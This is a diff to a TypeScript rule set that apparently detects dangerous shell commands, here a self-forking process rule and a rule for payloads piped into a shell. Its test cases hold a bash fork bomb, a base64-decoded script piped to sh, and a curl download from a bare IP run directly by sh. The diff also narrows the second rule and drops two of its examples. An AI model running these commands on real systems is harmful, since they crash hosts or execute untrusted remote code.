@@ -69,7 +69,7 @@ export const filesystemRules: readonly Rule[] = [
     flags:
       "A function of a shell, or a batch file, that starts itself twice over; a loop without an end that only forks or starts its own program.",
     leaves: "Other functions, and forks that something counts.",
-    fails: [":(){ :|:& };:", "while True: os.fork()", "while :; do $0 & done"],
+    fails: [":(){ :|:& };:", "while True: os.fork()"],
     passes: ["f() { a | b & }", "pid = os.fork()"],
   },
   {
@@ -108,9 +108,9 @@ export const filesystemRules: readonly Rule[] = [
     one: "foreign payload run by a shell",
     many: "foreign payloads run by a shell",
     flags:
-      "Something decoded, or fetched from an address without a name, that goes straight into a shell or an interpreter; what a connection brings, run by the program that opened it; an encoded script for PowerShell.",
+      "Something decoded, or fetched from an address without a name, that goes straight into a shell or an interpreter; an encoded script for PowerShell.",
     leaves: "Decoding into a file or a variable, and installers fetched from a host with a name.",
-    fails: ["echo cm0= | base64 -d | sh", "curl http://10.0.0.9/x | sh", "exec(s.recv(4096))"],
+    fails: ["echo cm0= | base64 -d | sh", "curl http://10.0.0.9/x | sh"],
     passes: ["base64 -d x > y", "curl -s https://get.docker.com | sh"],
   },
   {
